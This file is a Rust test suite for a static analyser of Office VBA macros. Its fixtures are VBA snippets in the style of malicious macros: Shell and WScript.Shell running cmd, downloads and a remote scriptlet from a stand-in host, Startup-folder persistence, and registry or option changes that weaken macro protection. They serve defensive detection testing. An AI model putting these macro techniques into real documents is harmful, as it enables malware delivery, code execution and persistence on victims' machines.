//! Call sites that act, and lookalikes that do not.

use super::*;
use crate::budget::{Budget, Limits};
use crate::languages::ActionKind;

/// The behaviour of some modules, with what stands around them.
pub(super) fn behaviour(modules: &[(&str, ModuleKind, &str)], around: &Surroundings) -> Behaviour {
    let modules: Vec<Module> = modules
        .iter()
        .map(|(name, kind, source)| Module {
            name: (*name).to_owned(),
            path: format!("VBA/{name}"),
            kind: *kind,
            source: (*source).to_owned(),
        })
        .collect();
    let project = Project { modules, ..Project::default() };
    let (behaviour, result) = analyse(&project, around, &Budget::new(Limits::default(), |_| ()));
    result.unwrap();
    behaviour
}

fn project(modules: &[(&str, ModuleKind, &str)]) -> Behaviour {
    behaviour(modules, &Surroundings::default())
}

/// Kind and detail of every action of a procedure body, in a standard module.
fn actions(body: &str) -> Vec<(ActionKind, String)> {
    let source = format!("Sub AutoOpen()\n{body}\nEnd Sub");
    let behaviour = project(&[("M", ModuleKind::Standard, &source)]);
    behaviour.actions.into_iter().map(|action| (action.kind, action.detail)).collect()
}

fn runs(body: &str) -> Vec<String> {
    actions(body).into_iter().filter(|(kind, _)| *kind == ActionKind::Run).map(|(_, detail)| detail).collect()
}

#[test]
fn code_raises_the_events_of_what_it_does() {
    let reached = |open: &str, event: &str| {
        let book = format!("Sub Workbook_Open()\n{open}\nEnd Sub");
        let sheet = format!("Private Sub {event}(ByVal Target As Range)\nShell \"cmd /c x\"\nEnd Sub");
        let modules = [("ThisWorkbook", ModuleKind::Document, &*book), ("Sheet1", ModuleKind::Document, &*sheet)];
        let found = project(&modules).actions;
        found.iter().any(|action| action.kind == ActionKind::Run && action.reached_by.is_some())
    };
    for open in ["Sheets(1).Range(\"A1\") = 1", "With Cells(1, 1)\n.Value = 2\nEnd With", "ActiveCell.ClearContents"] {
        assert!(reached(open, "Worksheet_Change"), "{open}");
    }
    assert!(reached("Range(\"A1\").Select", "Worksheet_SelectionChange"));
    assert!(!reached("x = Range(\"A1\").Value", "Worksheet_Change"));
    assert!(!reached("Range(\"A1\") = 1", "Worksheet_BeforeDoubleClick"));
}

#[test]
fn shell_is_a_function_with_an_argument() {
    assert_eq!(runs("Shell \"cmd /c a\", vbHide"), ["cmd /c a"]);
    assert_eq!(runs("x = Shell(\"cmd /c a\", 0)"), ["cmd /c a"]);
    assert_eq!(runs("If a Then Shell \"x.exe\" Else VBA.Shell (\"y.exe\")"), ["x.exe", "y.exe"]);
    assert_eq!(runs("Call Interaction.Shell(PathName:=\"z.exe\")"), ["z.exe"]);
    assert_eq!(runs("Shell \"a\" _\n & \"b.exe\""), ["ab.exe"]);
}

#[test]
fn the_folder_of_shell_execute_tells_nothing() {
    let of = |call: &str| {
        let source = format!(
            "Declare Function SE Lib \"shell32\" Alias \"ShellExecuteA\" (a, b, c, d, e, f)\nSub AutoOpen()\n{call}\nEnd Sub"
        );
        let found = project(&[("M", ModuleKind::Standard, &source)]).actions;
        found.into_iter().map(|action| (action.kind, action.detail)).collect::<Vec<_>>()
    };
    let run = |detail: &str| vec![(ActionKind::Run, detail.to_owned())];
    assert_eq!(of("SE 0, \"open\", Range(\"A1\"), \"\", \"C:\\\", 1"), run("…"));
    assert_eq!(of("SE 0, \"open\", \"cmd\", \"/c x\", \"C:\\tools\", 0"), run("cmd /c x"));
    let shown = of("SE 0, \"Open\", ThisWorkbook.Path, \"\", \"C:\\\", 1");
    assert_eq!(shown, [(ActionKind::View, "%DocumentPath%".to_owned())]);
}

#[test]
fn constants_by_the_module_they_stand_in() {
    let of = |value: &str| {
        let constants = format!("Public Const CONNECTION As String = \"{value}\"");
        let user = "Sub AutoOpen()\nSet c = CreateObject(Constants.CONNECTION)\nc.Run \"cmd /c x\"\nEnd Sub";
        let modules = [("Constants", ModuleKind::Standard, &*constants), ("M", ModuleKind::Standard, user)];
        project(&modules).actions.into_iter().map(|action| action.kind).collect::<Vec<_>>()
    };
    assert_eq!(of("ADODB.Connection"), []);
    assert_eq!(of("WScript.Shell"), [ActionKind::Run]);
}

#[test]
fn excel_itself_is_no_shell() {
    let of = |line: &str| runs(&format!("Set s = CreateObject(\"WScript.Shell\")\nk.Add s\n{line}"));
    assert!(of("x = Application.Run(\"Tools.xlam!Main.Check\")").is_empty());
    assert_eq!(of("k(1).Run \"Tools.exe\""), ["Tools.exe"]);
    assert_eq!(of("Dim Application\nSet Application = k(1)\nApplication.Run \"Tools.exe\""), ["Tools.exe"]);
}

#[test]
fn words_are_no_actions() {
    assert!(
        actions("' Shell \"x\"\nRem Shell \"x\"\nMsgBox \"Shell x\"\nDim Shell\nShell = 1\no.Shell = 2").is_empty()
    );
    assert!(actions("Call Run\nOpen f For Input As #1\nPrint 1\nActiveWorkbook.Save\nx = rs.Open").is_empty());
    assert!(
        actions("Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"DSN=x\"\nc.Execute \"Create Table\"").is_empty()
    );
    assert!(
        actions("Set f = CreateObject(\"Scripting.FileSystemObject\")\nMsgBox f.GetFolder(\".\").Files.Count")
            .is_empty()
    );
}

#[test]
fn a_viewer_is_not_a_program() {
    let kinds = |body: &str| actions(body).into_iter().map(|(kind, _)| kind).collect::<Vec<_>>();
    assert_eq!(kinds("Shell \"notepad.exe C:\\a.txt\", 1"), [ActionKind::View]);
    assert_eq!(kinds("Shell \"explorer.exe \" & folder, 1"), [ActionKind::View]);
    assert_eq!(kinds("Open p For Binary As #1\nShell \"explorer.exe \" & p"), [ActionKind::Write, ActionKind::Run]);
    assert_eq!(kinds("Shell \"calc.exe\""), [ActionKind::Run]);
}

#[test]
fn objects_are_followed_to_their_methods() {
    assert_eq!(runs("CreateObject(\"WScript.Shell\").Run \"a.exe\", 0"), ["a.exe"]);
    assert_eq!(runs("Set w = CreateObject(\"WScript\" & \".Shell\")\nw.Exec (\"a.exe\")"), ["a.exe"]);
    assert_eq!(runs("With CreateObject(\"wscript.shell\")\n.Run \"b.exe\"\nEnd With"), ["b.exe"]);
    assert_eq!(runs("Dim w As New WshShell\nw.Run Command:=\"c.exe\""), ["c.exe"]);
    assert_eq!(runs("Set a = New IWshRuntimeLibrary.WshShell\nSet b = a\nb.Run \"d.exe\""), ["d.exe"]);
    assert_eq!(runs("GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run \"e.exe\""), ["e.exe"]);
    assert_eq!(runs("CreateObject(\"Shell.Application\").ShellExecute \"f.exe\", \"-x\""), ["f.exe -x"]);
    let wmi = "Set p = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\np.Create \"g.exe\", Null, Null, i";
    assert_eq!(runs(wmi), ["g.exe"]);
    assert_eq!(runs("GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create \"h.exe\""), ["h.exe"]);
    assert_eq!(runs("CallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"i.exe\""), ["i.exe"]);
}

#[test]
fn texts_are_put_together() {
    assert_eq!(
        runs("Const a = \"cm\"\nb = \"d \" & Chr(47) & \"c\"\nShell a & b + ChrW(&H20) & StrReverse(\"x\")"),
        ["cmd /c x"]
    );
    assert_eq!(runs("Shell Replace(\"c#m#d\", \"#\", \"\") & \" \" & Mid(\"xyz\", 2, 1)"), ["cmd y"]);
    assert_eq!(runs("Shell \"cmd \" & Range(\"A1\").Value"), ["cmd …"]);
    assert_eq!(runs("a = Range(\"A1\") & \"x\"\nShell a"), ["…x"]);
    assert_eq!(runs(&format!("Shell {}\"x\"", "\"y\" & ".repeat(3))), ["yyyx"]);
}

#[test]
fn an_object_without_a_name_is_hidden() {
    let kinds = |body: &str| actions(body).into_iter().map(|(kind, _)| kind).collect::<Vec<_>>();
    assert_eq!(kinds("Set o = CreateObject(Range(\"A1\"))\no.Run x"), [ActionKind::Hidden, ActionKind::Run]);
    assert!(kinds("Set o = GetObject(, \"Excel.Application\")").is_empty());
    let by_function = |last: &str| {
        let function =
            "End Sub\nFunction Named(i)\nSelect Case i\nCase 1\nNamed = \"Word.Application\"\nCase Else\nNamed = ";
        kinds(&format!(
            "n = Named(ActiveSheet.Index)\nSet o = CreateObject(n)\no.Run x\n{function}{last}\nEnd Select\nEnd Function\nSub More()"
        ))
    };
    assert_eq!(by_function("\"Excel.Application\""), []);
    assert_eq!(by_function("\"WScript.Shell\""), [ActionKind::Run]);
    assert_eq!(by_function("Range(\"A1\")"), [ActionKind::Hidden, ActionKind::Run]);
    assert!(kinds("Set o = GetObject(Class:=\"Excel.Application\")").is_empty());
    assert_eq!(kinds("CreateObject(Class:=\"WScript.Shell\").Run \"calc\""), [ActionKind::Run]);
    assert_eq!(kinds("Set o = CreateObject(servername:=x, class:=Range(\"A1\"))"), [ActionKind::Hidden]);
    assert!(kinds("Set o = GetObject(ThisWorkbook.Path & \"\\a.xls\")").is_empty());
    assert!(kinds("Set x = Sales.GetObject(kind, id)").is_empty());
}

#[test]
fn addresses_of_one_text_are_bounded() {
    let many: String = (0..99).map(|at| format!("http://a.example/{at} ")).collect();
    let found = project(&[("M", ModuleKind::Standard, &format!("t = \"{many}\""))]).addresses;
    assert_eq!((found.len(), found[31].excerpt.as_str()), (32, "http://a.example/31"));
}

#[test]
fn imports_count_where_they_are_called() {
    let declare = "Private Declare PtrSafe Function dl Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\n\
                   Private Declare Sub mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any)\n";
    let with =
        |body: &str| project(&[("M", ModuleKind::Standard, &format!("{declare}Sub AutoOpen()\n{body}\nEnd Sub"))]);
    let download = with("dl 0, \"http://a.example/x\", f, 0, 0");
    assert_eq!(download.actions[0].kind, ActionKind::Download);
    assert_eq!(download.actions[0].detail, "http://a.example/x");
    assert!(with("mv 1\n' dl 0").actions.is_empty());
    // What nobody can tell is hidden, not told to be run: there Office keeps it in a sandbox.
    let popen = |library: &str, body: &str| {
        let declare = format!(
            "Private Declare PtrSafe Function popen Lib \"{library}\" (ByVal c As String, ByVal m As String) As LongPtr"
        );
        let found = project(&[("M", ModuleKind::Standard, &format!("{declare}\nSub AutoOpen()\n{body}\nEnd Sub"))]);
        found.actions.iter().map(|action| (action.kind, action.detail.clone())).collect::<Vec<_>>()
    };
    let unknown = "f = popen(Range(\"A1\").Text, \"r\")";
    assert_eq!(popen("/usr/lib/libc.dylib", unknown)[0].0, ActionKind::Indirect);
    assert_eq!(popen("libc", unknown)[0], (ActionKind::Run, "…".into()));
    let known = "c = \"curl -o /tmp/a http://a.example/a\" & Range(\"A1\").Text\nf = popen(c, \"r\")";
    let told = popen("libc.dylib", known);
    assert!(told[0].0 == ActionKind::Run && told[0].1.starts_with("curl -o"), "{told:?}");
}

#[test]
fn what_a_trigger_reaches() {
    let reached =
        |modules: &[(&str, ModuleKind, &str)]| project(modules).actions.iter().any(|a| a.reached_by.is_some());
    let act = "Sub Act()\nShell \"x.exe\"\nEnd Sub";
    let by = |body: &str| {
        let book = format!("Private Sub Workbook_Open()\n{body}\nEnd Sub");
        reached(&[("ThisWorkbook", ModuleKind::Document, &book), ("M", ModuleKind::Standard, act)])
    };
    assert!(by("Act") && by("Call Act") && by("M.Act") && by("If x Then Act"));
    assert!(by("Application.Run \"Act\"") && by("Application.OnTime Now, \"'\" & ThisWorkbook.Name & \"'!M.Act\""));
    assert!(by("Application.Run Cells(1, 1)"), "a name made at run time can be any");
    assert!(!by("MsgBox \"Act\"") && !by("x.Act") && !by("' Act"));
    let form = "Private Sub UserForm_Initialize()\nShell \"x.exe\"\nEnd Sub\nSub B_Click()\nEnd Sub";
    let book = "Sub Workbook_Open()\nUserForm1.Show\nEnd Sub";
    assert!(reached(&[("ThisWorkbook", ModuleKind::Document, book), ("UserForm1", ModuleKind::Form, form)]));
    let class = "Private Sub Class_Initialize()\nShell \"x.exe\"\nEnd Sub";
    let book = "Sub Workbook_Open()\nDim c As New Class1\nEnd Sub";
    assert!(reached(&[("ThisWorkbook", ModuleKind::Document, book), ("Class1", ModuleKind::Class, class)]));
    assert!(!reached(&[("ThisWorkbook", ModuleKind::Document, "Sub B_Click()\nShell \"x.exe\"\nEnd Sub")]));
}

#[test]
fn macro_protection_and_the_registry() {
    let kinds = |body: &str| actions(body).into_iter().map(|(kind, _)| kind).collect::<Vec<_>>();
    let key = "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM";
    assert_eq!(
        kinds(&format!("CreateObject(\"WScript.Shell\").RegWrite \"{key}\", 1, \"REG_DWORD\"")),
        [ActionKind::Weaken]
    );
    assert_eq!(kinds("Options.VirusProtection = False"), [ActionKind::Weaken]);
    assert!(
        kinds("Options.VirusProtection = True\nx = System.PrivateProfileString(\"\", \"HKCU\\Security\", \"Level\")")
            .is_empty()
    );
}

#[test]
fn functions_that_return_one_text_are_texts() {
    let source =
        "Function part()\npart = \"cmd\"\nEnd Function\nSub AutoOpen()\n10 Shell part() & \" \" & part\nEnd Sub";
    assert_eq!(project(&[("M", ModuleKind::Standard, source)]).actions[0].detail, "cmd cmd");
    assert_eq!(runs("GetObject(\"script:http://a.example/x.sct\")"), ["script:http://a.example/x.sct"]);
}

#[test]
fn texts_grow_line_by_line() {
    assert_eq!(runs("s = \"cmd\"\ns = s & \" /c\"\ns = s + \" x\"\nShell s\ns = \"y\""), ["cmd /c x"]);
    assert_eq!(runs("s = s & \"cmd\"\nShell s"), ["cmd"]);
    assert_eq!(runs("For i = 1 To 3\ns = s & \"x\"\nNext\nShell s"), ["xxx"]);
    assert_eq!(runs("If a Then s = \"notepad.exe\" Else s = \"cmd\"\nShell s"), ["…"]);
    assert_eq!(runs("s = \"notepad.exe\"\nIf a Then\ns = \"cmd\"\nEnd If\nShell s"), ["…"]);
    assert_eq!(runs("Select Case a\nCase 1\ns = \"cmd\"\nShell s\nCase 2\ns = \"x\"\nEnd Select"), ["cmd"]);
    assert_eq!(runs("s = \"notepad.exe\"\nOn Error GoTo e\ns = \"hh\"\ns = \"notepad.exe\"\ne:\nShell s"), ["…"]);
    assert_eq!(runs("Shell Join(Array(\"cmd\", \"/c\"), \" \") & Split(\"a b\")(1) & Hex(255)"), ["cmd /cbFF"]);
    assert_eq!(runs("p = Split(\"cmd,x\", \",\")\nShell p(0) & Chr(Val(\"&H20\")) & p(1)"), ["cmd x"]);
    let long: String = (0..3000).map(|_| "s = s & \"x\"\n").collect();
    assert_eq!(runs(&format!("{long}Shell s"))[0].len(), 3000);
    let changed = "Sub Fill(t)\nt = \"cmd\"\nEnd Sub\nSub AutoOpen()\ns = \"notepad.exe\"\nFill s\nShell s\nEnd Sub";
    assert_eq!(project(&[("M", ModuleKind::Standard, changed)]).actions[0].kind, ActionKind::Run);
}

/// Kinds of the actions that a trigger reaches, in the modules `ThisWorkbook`, `M` and the class `C`.
fn reached(book: &str, standard: &str, class: &str) -> Vec<ActionKind> {
    let modules = [
        ("ThisWorkbook", ModuleKind::Document, book),
        ("M", ModuleKind::Standard, standard),
        ("C", ModuleKind::Class, class),
    ];
    project(&modules)
        .actions
        .into_iter()
        .filter(|action| action.reached_by.is_some())
        .map(|action| action.kind)
        .collect()
}

fn on_open(body: &str) -> String {
    format!("Private Sub Workbook_Open()\n{body}\nEnd Sub")
}

#[test]
fn callers_say_what_a_parameter_is() {
    let make = "Function Make(id As String) As Object\nSet Make = CreateObject(id)\nEnd Function";
    assert!(reached(&on_open("Set d = Make(\"Scripting.Dictionary\")"), make, "").is_empty());
    assert_eq!(reached(&on_open("Set d = Make(Range(\"A1\"))"), make, ""), [ActionKind::Hidden]);
    assert_eq!(reached(&on_open("Make(\"WScript.Shell\").Run \"x\""), make, ""), [ActionKind::Run]);
    // Only a macro that starts by hand hides the name.
    let both = format!("{make}\nSub ByHand()\nMake InputBox(1)\nEnd Sub");
    assert!(reached(&on_open("Set d = Make(\"Scripting.Dictionary\")"), &both, "").is_empty());
    // Its name in a text: more calls than can be seen.
    assert_eq!(
        reached(&on_open("Application.Run \"Make\", x\nMake \"Excel.Application\""), make, ""),
        [ActionKind::Hidden]
    );
    let go = "Sub Go(w, c)\nw.Run c\nEnd Sub";
    assert_eq!(reached(&on_open("Go CreateObject(\"WScript.Shell\"), \"x\""), go, ""), [ActionKind::Run]);
    assert!(reached(&on_open("Go CreateObject(\"Excel.Application\"), \"x\""), go, "").is_empty());
}

#[test]
fn functions_and_variables_hand_objects_on() {
    let property = "Property Get Zed()\nSet Zed = CreateObject(\"WScript.Shell\")\nEnd Property";
    assert_eq!(reached(&on_open("Zed.Run \"cmd\""), property, ""), [ActionKind::Run]);
    assert_eq!(reached(&on_open("Dim k As New C\nk.Zed.Run \"cmd\""), "", property), [ActionKind::Run]);
    let shared = "Public w As Object\nSub Make()\nSet w = CreateObject(\"Excel.Application\")\n\
                  Set w = CreateObject(\"WScript.Shell\")\nEnd Sub";
    assert_eq!(reached(&on_open("Make\nw.Run \"cmd\""), shared, ""), [ActionKind::Run]);
    let other = property.replace("WScript.Shell", "Excel.Application");
    assert!(reached(&on_open("Zed.Run \"cmd\""), &other, "").is_empty());
}

#[test]
fn events_of_the_application_start_by_themselves() {
    let class = "Public WithEvents App As Application\nPrivate Sub App_WorkbookActivate(ByVal W As Workbook)\nShell \"x\"\nEnd Sub";
    let book = |body: &str| format!("Dim k As New C\n{}", on_open(body));
    assert_eq!(reached(&book("Set k.App = Application"), "", class), [ActionKind::Run]);
    assert!(reached(&book("MsgBox 1"), "", class).is_empty());
    let in_use = class.replace("WorkbookActivate", "SheetSelectionChange");
    assert_eq!(reached(&book("Set k.App = Application"), "", &in_use), [ActionKind::Run]);
    let by_hand = class.replace("WorkbookActivate", "SheetBeforeDoubleClick");
    assert!(reached(&book("Set k.App = Application"), "", &by_hand).is_empty());
    let button = class.replace("App_WorkbookActivate", "App_Click");
    assert!(reached(&book("Set k.App = Button1"), "", &button).is_empty());
}

#[test]
fn names_that_mean_something_else() {
    // A procedure that this module does not see is not meant.
    let hidden = "Private Sub Shell(x)\nEnd Sub";
    assert_eq!(reached(&on_open("Shell \"cmd /c x\""), hidden, ""), [ActionKind::Run]);
    assert!(reached(&on_open("Shell \"cmd /c x\""), "Sub Shell(x)\nEnd Sub", "").is_empty());
    let two = "Private Declare Function f Lib \"kernel32\" Alias \"WinExec\" (a, b)\n";
    let book = format!("{two}{}", on_open("f \"cmd /c x\", 0"));
    assert_eq!(
        reached(&book, "Private Declare Function f Lib \"kernel32\" Alias \"Beep\" (a, b)", ""),
        [ActionKind::Run]
    );
    // A list is no object of the project, whatever its methods are called.
    let class = "Sub Add(x)\nShell \"x\"\nEnd Sub";
    assert!(reached(&on_open("Dim l As New Collection\nl.Add 1"), "", class).is_empty());
    assert_eq!(reached(&on_open("l.Add 1"), "", class), [ActionKind::Run]);
    let implements = "Implements IRun\nPrivate Sub IRun_Go()\nShell \"x\"\nEnd Sub";
    assert_eq!(reached(&on_open("Dim r As IRun\nSet r = New C\nr.Go"), "", implements), [ActionKind::Run]);
    let own = "Function Create()\nEnd Function\nSub P()\nSet x = GetObject(\"winmgmts:Win32_Process\")\nEnd Sub";
    assert!(reached(&on_open("Set x = C.Create()"), "", own).is_empty());
}

#[test]
fn folders_that_start_later_and_code_that_is_made() {
    let kinds = |body: &str| actions(body).into_iter().map(|(kind, _)| kind).collect::<Vec<_>>();
    let startup = "Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.vbs\"";
    assert_eq!(kinds(&format!("Open {startup} For Output As #1")), [ActionKind::Persist]);
    assert_eq!(kinds("FileCopy a, Application.StartupPath & \"\\a.xla\""), [ActionKind::Persist]);
    let link = "Set w = CreateObject(\"WScript.Shell\")\nSet l = w.CreateShortcut(w.SpecialFolders(\"Startup\") & \"\\a.lnk\")";
    assert_eq!(kinds(link), [ActionKind::Persist]);
    assert!(kinds(&link.replace("Startup", "Desktop")).is_empty());
    assert_eq!(kinds("FileCopy a, Application.UserLibraryPath & \"\\a.xla\""), [ActionKind::Write]);
    assert_eq!(kinds("p.VBComponents.Add(1).CodeModule.AddFromString t"), [ActionKind::Generate]);
    assert!(kinds("For Each c In p.VBComponents\nc.Export f\nNext").is_empty());
}

#[test]
fn interpreters_and_addresses() {
    let script = |call: &str| runs(&format!("Set s = CreateObject(\"MSScriptControl.ScriptControl\")\ns.{call}"));
    assert_eq!(script("Eval \"x\""), ["x"]);
    assert_eq!(script("ExecuteStatement t"), ["…"]);
    assert!(script("AddCode \"function get(o, k) { return o[k]; }\"").is_empty());
    assert_eq!(runs("Set h = CreateObject(\"htmlfile\")\nh.parentWindow.execScript \"x\", \"JScript\""), ["x"]);
    assert!(runs("Set h = CreateObject(\"htmlfile\")\nh.write page").is_empty());
    assert_eq!(runs("ThisDocument.FollowHyperlink \"http://a.example/x.exe\"").len(), 1);
    assert!(runs("ThisDocument.FollowHyperlink \"http://a.example/x.pdf\"").is_empty());
}

#[test]
fn many_of_everything() {
    let long = "a.b".repeat(60_000);
    assert!(actions(&long).is_empty());
    let same = "Sub a_Click()\na_Click\nShell x\nEnd Sub\n".repeat(20_000);
    let behaviour = project(&[("ThisWorkbook", ModuleKind::Document, &same)]);
    assert!(behaviour.actions.len() <= 4000 && behaviour.triggers.len() <= 4000);
    let line = format!("Shell \"{}\"", "x".repeat(1 << 20));
    assert!(
        project(&[("M", ModuleKind::Standard, &format!("Sub A()\n{line}\nEnd Sub"))]).actions[0].place.excerpt.len()
            < 600
    );
}

#[test]
fn hostile_sizes_cost_steps_and_not_time() {
    let deep = format!("Shell {}1{}", "Chr(".repeat(20_000), ")".repeat(20_000));
    assert_eq!(runs(&deep).len(), 1);
    assert!(actions(&"Shell(".repeat(200_000)).len() <= 1);
    let wide = format!("Shell \"x\"{}", " & \"y\"".repeat(100_000));
    assert_eq!(runs(&wide).len(), 1);
    let doubled: String = (1..60).map(|i| format!("a{i} = a{} & a{}\n", i - 1, i - 1)).collect();
    assert_eq!(runs(&format!("a0 = \"0123456789\"\n{doubled}Shell a59")), ["…"]);
}

#[test]
fn callers_of_callers_cost_steps_and_not_time() {
    // Everyone calls everyone with what it was given.
    let calls: String = (0..60).map(|i| format!("p{i} a\n")).collect();
    let all: String =
        (0..60).map(|i| format!("Sub p{i}(a)\nSet o = CreateObject(a)\na.Run a\n{calls}End Sub\n")).collect();
    let behaviour = project(&[("M", ModuleKind::Standard, &format!("{all}Sub AutoOpen()\np1 x\nEnd Sub"))]);
    assert!(behaviour.actions.iter().any(|action| action.kind == ActionKind::Hidden && action.reached_by.is_some()));
    let lists = format!("l = Split(\"{}\", \"a\")\n{}", "a".repeat(8000), "Shell l(7)\n".repeat(2000));
    assert_eq!(runs(&lists).len(), 2000);
    let branches =
        format!("{}s = \"x\"\nShell s\n{}", "If a Then\n".repeat(20_000), "s = s & s\nEnd If\n".repeat(20_000));
    assert_eq!(runs(&branches), ["…"]);
    assert_eq!(runs(&format!("{}s = \"x\"\nShell s", "If a Then ".repeat(20_000))), ["x"]);
}

/// What is seen of a project with so many bytes of memory, and whether that was all.
fn with_memory(memory: u64, source: &str) -> (Vec<(String, bool)>, bool) {
    let module = Module {
        name: "ThisDocument".into(),
        path: String::new(),
        kind: ModuleKind::Document,
        source: source.to_owned(),
    };
    let project = Project { modules: vec![module], ..Project::default() };
    let budget = Budget::new(Limits { memory, ..Limits::default() }, |_| ());
    let (behaviour, result) = analyse(&project, &Surroundings::default(), &budget);
    assert_eq!(budget.room(), memory, "everything is let go");
    let actions = behaviour.actions.into_iter().map(|action| (action.detail, action.reached_by.is_some()));
    (actions.collect(), result.is_ok())
}

#[test]
fn padding_does_not_hide_what_starts() {
    let start = "Sub Document_Open()\nDrop\nEnd Sub\nSub Drop()\nShell \"cmd /c a\"\nEnd Sub\n";
    let found = vec![("cmd /c a".to_owned(), true)];
    // Comments and blank lines cost nothing.
    let comments = format!("{}{start}", "' x = 1\n\n".repeat(50_000));
    assert_eq!(with_memory(200 << 10, &comments), (found.clone(), true));
    // Procedures that nothing calls go first, and that is said.
    let junk: String = (0..20_000).map(|i| format!("Sub Junk{i}()\nx = x + {i}\nEnd Sub\n")).collect();
    for source in [format!("{junk}{start}"), format!("{start}{junk}")] {
        assert_eq!(with_memory(2 << 20, &source), (found.clone(), false));
    }
    // Statements behind one that acts.
    let endless = format!("Sub Document_Open()\nShell \"cmd /c a\"\n{}End Sub", "x = x + 1\n".repeat(50_000));
    assert_eq!(with_memory(200 << 10, &endless), (found, false));
}

#[test]
fn one_line_of_anything_fits_into_memory() {
    for line in [
        format!("x = {}", ["\"ab\""; 100_000].join(" & ")),
        ["x = x & \"a\""; 100_000].join(":"),
        format!("f {}", ["x"; 100_000].join(", ")),
        format!("Dim {}", ["a(1 To 9)"; 50_000].join(", ")),
    ] {
        let (_, all) = with_memory(1 << 20, &format!("Sub Document_Open()\n{line}\nEnd Sub"));
        assert!(!all);
    }
}

#[test]
fn modules_that_were_read_before_are_the_same() {
    let sources = ["Sub AutoOpen()\nGo \"cmd\", 1\nEnd Sub", "Sub Go(what, n)\nShell what & \" /c calc\"\nEnd Sub"];
    let behaviour = |before: &[usize]| {
        let budget = Budget::new(Limits::default(), |_| ());
        let mut read = Read::default();
        for number in before {
            Words::of_module(sources[*number], &mut read, &budget).unwrap();
            read.keep(*number, true);
            // What is no module of the project is not kept.
            Words::of_module("Sub Other()\nEnd Sub", &mut read, &budget).unwrap();
            read.keep(1 - *number, false);
        }
        let module = |source: &str| Module {
            name: "M".to_owned(),
            path: "VBA/M".to_owned(),
            kind: ModuleKind::Standard,
            source: source.to_owned(),
        };
        let project = Project { modules: sources.map(module).into(), read: read.into(), ..Project::default() };
        let (behaviour, result) = analyse(&project, &Surroundings::default(), &budget);
        result.unwrap();
        format!("{behaviour:?}")
    };
    let fresh = behaviour(&[]);
    assert!(fresh.contains("cmd /c calc"));
    for before in [[0].as_slice(), &[1], &[0, 1], &[1, 0]] {
        assert_eq!(behaviour(before), fresh);
    }
}
